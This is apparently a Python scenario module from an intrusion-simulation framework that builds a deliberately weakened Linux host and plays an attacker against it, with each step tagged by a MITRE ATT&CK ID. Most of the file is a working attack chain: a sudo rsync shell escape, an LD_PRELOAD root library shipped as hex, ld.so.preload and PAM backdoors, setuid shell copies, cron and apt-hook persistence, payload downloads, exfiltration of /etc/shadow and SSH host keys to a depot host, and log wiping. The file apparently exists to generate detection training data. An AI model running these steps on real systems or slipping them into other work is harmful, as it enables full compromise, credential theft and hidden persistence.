"""A forgotten ssh key on a download page opens an account; libraries, PAM lines and start scripts stay behind."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

import pages
from plot import Storyline, Visit

if TYPE_CHECKING:
    from intruder import Intruder

PORT = 8329
MIDDLE = (3.5, 15.0, 7.0)
KEY = re.compile(r"-----BEGIN OPENSSH PRIVATE KEY-----.*?-----END OPENSSH PRIVATE KEY-----", re.DOTALL)

WEAKEN = r"""
set -e
id assets >/dev/null 2>&1 || useradd -m -s /bin/bash -c 'asset store' assets
install -d -o assets -g assets /srv/drop /srv/drop/pub /srv/drop/pub/old /srv/drop/pub/old/home /srv/drop/src
install -d /etc/drop /var/backups/drop
install -d -m 700 -o assets -g assets /home/assets/.ssh
key=/srv/drop/pub/old/home/id_ed25519
[ -f $key ] || ssh-keygen -q -t ed25519 -N '' -C assets@old -f $key
chmod 644 $key
cp $key.pub /home/assets/.ssh/authorized_keys
printf 'host %s\nuser assets\nidentity id_ed25519\n' "$1" > /srv/drop/pub/old/home/config
for n in 1 2 3 4 5 6; do head -c $((n * 700)) /dev/zero | tr '\0' x > "/srv/drop/pub/asset-$n.txt"; done
printf 'all: %s\n' pack > /srv/drop/src/Makefile
printf 'pack: pack.c\n\tgcc -O1 -o pack pack.c\n' >> /srv/drop/src/Makefile
printf '#include <stdio.h>\nint main(void) { puts("packed"); return 0; }\n' > /srv/drop/src/pack.c
chown -R assets:assets /srv/drop /home/assets/.ssh
cat > /srv/drop/share.py <<'EOF'
#!/usr/bin/python3
# Asset share: hands out files and lists folders.
from pathlib import Path

import appserver

ROOT = Path("/srv/drop/pub")


def handle(method, path, query, body, headers):
    target = (ROOT / path.lstrip("/")).resolve()
    if not target.is_relative_to(ROOT) or not target.exists():
        return 404, "no such asset\n"
    if target.is_dir():
        return 200, "\n".join(sorted(entry.name + "/" * entry.is_dir() for entry in target.iterdir())) + "\n"
    return 200, target.read_bytes().decode("utf-8", "replace")


appserver.serve(8329, handle, "drop")
EOF
cat > /etc/sudoers.d/drop <<'EOF'
# mirror and time stamp of the asset store
Defaults!/usr/bin/rsync env_keep += "LD_PRELOAD"
assets ALL=(root) NOPASSWD: /usr/bin/rsync, /usr/bin/tee /etc/drop/*
EOF
chmod 440 /etc/sudoers.d/drop
cat > /usr/local/bin/drop-mirror <<'EOF'
#!/bin/sh
# rebuild the packer when its source changed, mirror the assets, note the time
make -s -C /srv/drop/src all && /srv/drop/src/pack >/dev/null
sudo rsync -a --delete /srv/drop/pub/ /var/backups/drop/
date -Is | sudo tee /etc/drop/stamp >/dev/null
touch /srv/drop/src/pack.c
EOF
chmod 755 /usr/local/bin/drop-mirror
printf '*/3 * * * * assets /usr/local/bin/drop-mirror\n' > /etc/cron.d/drop
"""

LOOK = """
== look round | TA0007 | The account, its rights and what can be compiled here.
T1033 id; whoami
T1082 uname -a; ldd --version | head -1
T1083 ls -la; ls -la /srv/drop /srv/drop/src
? T1057 ps -eo user,args | grep -v '\\[' | tail -30
T1518 which gcc cc make python3 perl as ld
? T1087.001 awk -F: '$3>=1000{print $1,$6}' /etc/passwd
T1548.003 sudo -n -l
"""

LIBRARY = """
== root | TA0004 | The allowed rsync starts a shell instead of a connection.
T1548.003 sudo -n rsync -e 'sh -c "sh 0<&2 1>&2"' 127.0.0.1:/dev/null
T1033 id
T1059.004 exec bash
== compiled here | TA0005 | A small library that does nothing but say it was loaded.
T1027.004 mkdir -p /usr/local/src/{w}; cd /usr/local/src/{w}
T1027.004 cat > nss.c <<'EOF'
/* name service shim */
static volatile int loaded;
__attribute__((constructor)) static void begin(void) { loaded = 1; }
int nss_shim_loaded(void) { return loaded; }
EOF
T1027.004 gcc -shared -fPIC -O1 -o libnss_{w}.so.2 nss.c
T1083 ls -l; file libnss_{w}.so.2
T1036.005 install -m 644 libnss_{w}.so.2 /usr/lib/x86_64-linux-gnu/libnss_{w}.so.2
T1574.006 LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libnss_{w}.so.2 /bin/true && echo fine
T1574.006 echo /usr/lib/x86_64-linux-gnu/libnss_{w}.so.2 >> /etc/ld.so.preload; cat /etc/ld.so.preload
T1574.006 ldd /bin/ls | head -4
T1070.006 touch -r /usr/lib/x86_64-linux-gnu/libc.so.6 /usr/lib/x86_64-linux-gnu/libnss_{w}.so.2
== ways back | TA0003 | A start script, a profile line, a PAM line and a setuid shell.
T1037.004 printf '#!/bin/sh -e\\n/usr/lib/{w}/start\\nexit 0\\n' > /etc/rc.local; chmod 755 /etc/rc.local
T1105 mkdir -p /usr/lib/{w}; curl -s {depot}/start.sh -o /usr/lib/{w}/start; chmod 755 /usr/lib/{w}/start
T1546.004 echo '[ -n "$PS1" ] && [ -f /run/{w}.id ] && . /run/{w}.id' > /etc/profile.d/{w}.sh
T1556.003 cp /etc/pam.d/sshd /root/sshd.pam; echo 'session optional pam_exec.so quiet /usr/lib/{w}/start' >>
    /etc/pam.d/sshd
T1556.003 tail -n 3 /etc/pam.d/sshd; diff /root/sshd.pam /etc/pam.d/sshd
T1548.001 cp /bin/bash /usr/lib/{w}/idmap; chmod 4755 /usr/lib/{w}/idmap; ls -l /usr/lib/{w}
"""

LIBRARY_END = """
== hidden worker | TA0005 | A process that carries the name of a kernel thread.
T1036.011 & (exec -a '[kworker/1:2-mm]' python3 -c 'import time; [time.sleep(5) for _ in range(120)]' &) >/dev/null
    2>&1
T1057 ps -eo pid,args | grep kworker | head -3
== out | TA0010 | Hashes and host keys go to the intruder, then the source goes.
T1003.008 cut -d: -f1,2 /etc/shadow | grep -v ':[!*]' > /dev/shm/{w}
T1552.004 cat /etc/ssh/ssh_host_ed25519_key >> /dev/shm/{w}; wc -c /dev/shm/{w}
T1048.003 curl -s -m 15 --data-binary @/dev/shm/{w} {depot}/{w}
T1070.004 rm -rf /dev/shm/{w} /usr/local/src/{w} /root/sshd.pam
T1027.010 %oct find /usr/lib/{w} /usr/bin -type f -perm -4000 | sort | tail -3
T1070.003 history -c; unset HISTFILE
T1548.003 exit
T1548.001 PS1='\\u@\\h:\\w\\$ ' /usr/lib/{w}/idmap -p
T1548.001 id; head -n 1 /etc/shadow | cut -c1-12
T1548.001 exit
"""

STEALTH = """
== source in pieces | TA0011 | The source comes as hexadecimal text in a file that looks like a table.
T1105 cd /dev/shm; curl -s {depot}/{table}.csv -o .{table}
T1083 head -c 60 .{table}; echo
T1140 xxd -r -p .{table} > {table}.c; wc {table}.c
T1027.004 gcc -shared -fPIC -o {table}.so {table}.c -nostartfiles || gcc -shared -fPIC -o {table}.so {table}.c
T1027.004 cc -w -shared -fPIC -o {table}.so {table}.c; ls -l {table}.so
== root by a library | TA0004 | sudo keeps LD_PRELOAD for rsync: the library is loaded as root.
T1574.006 LD_PRELOAD=/dev/shm/{table}.so rsync --version | head -1
T1574.006 sudo LD_PRELOAD=/dev/shm/{table}.so rsync
T1033 id -u; cd /
T1070.004 rm -f /dev/shm/{table}.c /dev/shm/.{table}
== a quiet library | TA0003 | Only the account's own shells load it, from its profile.
T1574.006 mkdir -p /home/assets/.local/lib; printf 'int locale_ready(void){return 1;}' | gcc -x c - -shared -fPIC
    -o /home/assets/.local/lib/liblocale.so
T1574.006 echo 'export LD_PRELOAD=$HOME/.local/lib/liblocale.so' >> /home/assets/.profile; chown -R assets:
    /home/assets/.local
T1546.004 tail -n 2 /home/assets/.profile
== init script | TA0003 | A service script of the old kind, linked into the run levels.
T1037.004 cat > /etc/init.d/{svc} <<'EOF'
#!/bin/sh
### BEGIN INIT INFO
# Provides:          {svc}
# Required-Start:    $remote_fs
# Required-Stop:
# Default-Start:     2 3 4 5
# Default-Stop:
# Short-Description: {svc} daemon
### END INIT INFO
[ "$1" = start ] || exit 0
setsid /usr/local/lib/{svc}/{svc} >/dev/null 2>&1 &
EOF
T1222.002 chmod 755 /etc/init.d/{svc}; update-rc.d {svc} defaults; ls /etc/rc2.d | tail -3
T1036.005 mkdir -p /usr/local/lib/{svc}; cp /usr/bin/sleep /usr/local/lib/{svc}/{svc}.bin
T1036.005 printf '#!/bin/sh\\nexec /usr/local/lib/{svc}/{svc}.bin 900\\n' > /usr/local/lib/{svc}/{svc}; chmod 755
    /usr/local/lib/{svc}/{svc}
T1543 & service {svc} start
T1057 ps -C {svc}.bin -o pid,user,args
T1543.002 systemctl daemon-reload
== rights | TA0004 | A language that may become root, and a PAM line that changes nothing yet.
T1548.001 cp /usr/bin/perl /usr/local/lib/{svc}/pl; setcap cap_setuid+ep /usr/local/lib/{svc}/pl; getcap -r
    /usr/local/lib
T1556.003 sed -i '1i auth optional pam_permit.so' /etc/pam.d/su; head -n 2 /etc/pam.d/su
T1027.010 %ruby grep -l pam_permit /etc/pam.d/* | sort; getent group sudo adm
? T1070.006 find /usr/local/lib/{svc} /etc/init.d/{svc} /etc/pam.d/su -exec touch -r /etc/pam.d/login {} +
T1070.002 %hex sed -i '/LD_PRELOAD/d' /var/log/auth.log
T1548.003 exit
T1548.001 /usr/local/lib/{svc}/pl -e 'use POSIX qw(setuid); setuid(0); print "$< $>\\n"; exec "id"'
T1070.004 rm -f /dev/shm/{table}.so; ls -la /dev/shm
"""

CAREFUL = """
== through tee | TA0004 | The rule lets tee write below one folder; two dots lead out of it.
T1083 ls -la /etc/drop /etc/cron.d; cat /etc/cron.d/drop
T1552.004 cat ~/.ssh/authorized_keys; ls ~/.ssh
T1059.004 printf '#!/bin/sh\\numask 077; mkdir -p /root/.ssh; cat /etc/drop/{w}.pub >> /root/.ssh/authorized_keys; rm
    -f /etc/cron.d/{w}\\n' > /srv/drop/src/{tool}
T1222.002 chmod +x /srv/drop/src/{tool}; cat /srv/drop/src/{tool}
T1098.004 echo '{public}' | sudo tee /etc/drop/{w}.pub
T1053.003 echo '* * * * * root /srv/drop/src/{tool}' | sudo tee /etc/drop/../cron.d/{w}
T1083 ls -l /etc/cron.d
"""

AS_ROOT = """
== as the administrator | TA0003 | Logged on as root, the intruder works like somebody who repairs the machine.
T1033 hostname; id; w
T1082 uptime; df -h / | tail -1; dmesg 2>/dev/null | tail -2
T1070.004 rm -f /etc/drop/{w}.pub /srv/drop/src/{tool}
? T1518.001 service --status-all 2>/dev/null | grep -iE 'audit|clam|fail2ban'; ls /etc/audit
T1574.006 mkdir -p /usr/local/lib/{svc}; echo 'void {svc}_probe(void){}' > /tmp/{svc}.c; gcc -fPIC -shared -o
    /usr/local/lib/{svc}/lib{svc}.so.1 /tmp/{svc}.c
T1574.006 echo /usr/local/lib/{svc} > /etc/ld.so.conf.d/{svc}.conf && ldconfig && ldconfig -p | grep {svc}
T1546.016 echo 'DPkg::Post-Invoke {"/usr/local/lib/{svc}/refresh || true";};' > /etc/apt/apt.conf.d/80{svc}
T1105 wget -q {depot}/start.sh -O /usr/local/lib/{svc}/refresh && chmod 755 /usr/local/lib/{svc}/refresh
"""

AS_ROOT_END = """
== what starts again | TA0003 | Timers, setuid copies and a PAM line, named like a service.
T1546.016 apt-config dump | grep Post-Invoke
T1027.010 %eval64 ls -la /var/spool/cron/crontabs; atq
T1037.004 printf '/usr/local/lib/{svc}/refresh\\n' | at -f /dev/stdin now + 2 minutes; grep -s refresh /etc/rc.local
T1548.001 install -m 4755 -o root /bin/dash /usr/local/sbin/{svc}-check; stat -c '%A %n' /usr/local/sbin/{svc}-check
T1556.003 cp -p /etc/pam.d/sshd /tmp/cs && echo 'session optional pam_exec.so quiet
    /usr/local/lib/{svc}/refresh' >> /etc/pam.d/sshd
T1556.003 tail -2 /etc/pam.d/sshd
== out | TA0010 | Hashes and host keys leave encrypted; times and lines are put right.
T1003.008 tar cf - /etc/shadow /etc/ssh/ssh_host_* 2>/dev/null | gzip | openssl enc -aes-256-cbc -pbkdf2 -k {w}
    -out /tmp/{svc}.bak
T1048.003 curl -s -m 15 -T /tmp/{svc}.bak {depot}/{svc}.bak; rm -f /tmp/{svc}.bak /tmp/cs /tmp/{svc}.c
T1070.006 touch -r /etc/ld.so.conf /etc/ld.so.conf.d/{svc}.conf /etc/apt/apt.conf.d/80{svc} /etc/pam.d/sshd
T1654 tail -n 6 /var/log/auth.log; lastlog 2>/dev/null | grep -v Never | head -4
T1070.002 sed -i '/{ip}/d' /var/log/auth.log
"""

START = """#!/bin/sh
# counts starts
date +%s >> /var/tmp/.starts
exit 0
"""
ROOTED = """#include <stdlib.h>
#include <unistd.h>
__attribute__((constructor)) static void begin(void)
{
    if (geteuid() != 0)
        return;
    unsetenv("LD_PRELOAD");
    setgid(0);
    setuid(0);
    execl("/bin/bash", "bash", (char *)0);
}
"""


def find_key(own: Intruder) -> str:
    own.step("found key", "TA0006", "The download page lists an old home folder with a private key in it.")
    for path in ("/", "/old/", "/old/home/", "/old/home/config"):
        own.http(own.entry, PORT, "GET", path, technique="T1552.001" if path.endswith("config") else "T1594")
        own.think(MIDDLE[own.variant])
    found = KEY.search(own.http(own.entry, PORT, "GET", "/old/home/id_ed25519", technique="T1552.004"))
    assert found, "the page does not show the key"
    return found.group(0) + "\n"


def play(own: Intruder) -> None:
    private, public = pages.key_pair("root@backup")
    number = own.rng.randint(2, 98)
    names = {
        "w": own.word() + str(number),
        "svc": own.pick(("idmap", "ntlm", "nscache", "acpi", "rpcx", "udisk")) + own.pick(("d", "helperd", "stat")),
        "table": own.pick(("rates", "zones", "units", "codes")) + str(number),
        "tool": own.pick(("repack", "resize", "thumbs")) + str(number),
        "public": public,
        "depot": own.depot,
        "ip": own.address,
    }
    own.offer("start.sh", START)
    own.offer(names["table"] + ".csv", ROOTED.encode().hex())
    middle = MIDDLE[own.variant]
    key = find_key(own)
    own.step("initial access", "TA0001", "With the key the intruder logs on to the asset store's account.")
    shell = own.ssh(own.entry, "assets", key=key, technique="T1078.003")
    act = pages.typed(shell)
    pages.follow(own, LOOK, act, names, middle)
    if own.variant == 0:
        pages.follow(own, LIBRARY, act, names, middle)
        own.plant(own.entry, f"/usr/lib/{names['w']}/start", "T1556.003")
        pages.follow(own, LIBRARY_END, act, names, middle)
    elif own.variant == 1:
        pages.follow(own, STEALTH, act, names, middle)
    else:
        pages.follow(own, CAREFUL, act, names, middle)
        own.plant(own.entry, f"/srv/drop/src/{names['tool']}", "T1053.003")
        own.rest(66)
        act("T1083", "ls /etc/cron.d", False)
        shell.close()
        shell = own.ssh(own.entry, "root", key=private, technique="T1098.004")
        pages.follow(own, AS_ROOT, pages.typed(shell), names, middle)
        own.plant(own.entry, f"/usr/local/lib/{names['svc']}/refresh", "T1546.016")
        pages.follow(own, AS_ROOT_END, pages.typed(shell), names, middle)
    shell.close()


STORYLINE = Storyline(
    name="preload-backdoor",
    split="train",
    words="A private key lies in an old home folder on a download page. With it somebody logs on, becomes root by a "
    "sudo rule that is too wide, compiles small libraries on the machine, loads them by preload files, and leaves "
    "PAM lines, start scripts and setuid copies behind.",
    weaken=WEAKEN,
    services=("assets: /usr/bin/python3 /srv/drop/share.py",),
    visits=(
        Visit(port=PORT, every=25, method="GET", path="/asset-{pick:1|2|3|4|5|6}.txt?v={n}"),
        Visit(port=PORT, every=70, method="GET", path="/{pick:|old/}"),
    ),
    play=play,
    variants=3,
    hosts=("web-05", "forge-02"),
    minutes=14,
)
